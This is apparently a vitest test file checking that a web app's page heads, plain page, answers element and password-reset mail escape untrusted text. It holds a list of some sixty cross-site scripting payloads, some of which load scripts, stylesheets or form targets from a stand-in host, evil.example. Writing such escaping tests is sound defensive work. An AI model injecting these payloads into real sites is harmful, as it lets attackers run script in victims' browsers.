import { describe, expect, test } from 'vitest'
import { renderMail } from '../../domain/mail/renderMail.tsx'
import { answersElement, headElements, plainPage } from './pageHead.ts'

/** Elements, attributes, addresses and tricks with letters that run a script where text is not escaped. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '</SCRIPT ><script>alert(1)',
  '</script\t><svg onload=alert(1)>',
  '<!--<script>',
  '--><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</noscript><img src=x onerror=alert(1)>',
  '</template><img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror=alert(1)//',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=`x` onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img src="x\u0000" onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)">',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "//evil.example/x.css"</style>',
  '<form action="//evil.example"><input name=a><button>Go',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<x onclick=alert(1)>x',
  '<x contenteditable onblur=alert(1)>',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '` onmouseover=alert(1) `',
  '" autofocus onfocus=alert(1) x="',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u2028<script>alert(1)</script>\u2029',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<\u0000script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  // A template of another language.
  ['$', '{alert(1)}'].join(''),
  'javascript:alert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/',
]
const HARMLESS = 'A plain text'

/** Every tag with its attributes; the words inside an attribute's quotes are left out. */
const tagsOf = (markup: string) =>
  (markup.match(/<[a-z/!][^>]*>/gi) ?? []).map(tag => tag.replace(/"[^"]*"/g, '""'))

const SITE = 'https://gradwright.example'
const head = (text: string) => ({
  title: text,
  description: text,
  canonical: `${SITE}/x`,
  structured: [{ '@type': 'Course', name: text, [text]: { deep: [text] } }],
  picture: { kind: text, title: text, lines: [text] },
  facts: [{ name: text, text }],
})

/** Where the server itself writes a text of a person or of the catalogue into HTML. */
const PLACES: [string, (text: string) => string][] = [
  ['the head of a page', text => String(headElements(head(text), { product: 'Gradwright', site: SITE }))],
  ['the page without scripts', text => String(plainPage(head(text), { product: 'Gradwright' }))],
  ['the answers inside a page', text => String(answersElement({ [text]: { words: text } }))],
  [
    'a mail',
    text =>
      renderMail({
        mail: {
          language: 'ENGLISH',
          kind: 'password-reset',
          subject: text,
          body: `Hello ${text}\n\n${text}\n${text}`,
        },
        publicUrl: SITE,
      }),
  ],
]

describe.each(PLACES)('%s', (_place, write) => {
  test.each(HOSTILE)('has no tag, attribute or address of the text %j', text => {
    const markup = write(text)
    expect(tagsOf(markup)).toEqual(tagsOf(write(HARMLESS)))
    expect(markup).not.toMatch(/(?:href|src|action)="(?!https:\/\/gradwright\.example|\/)/)
  })
})
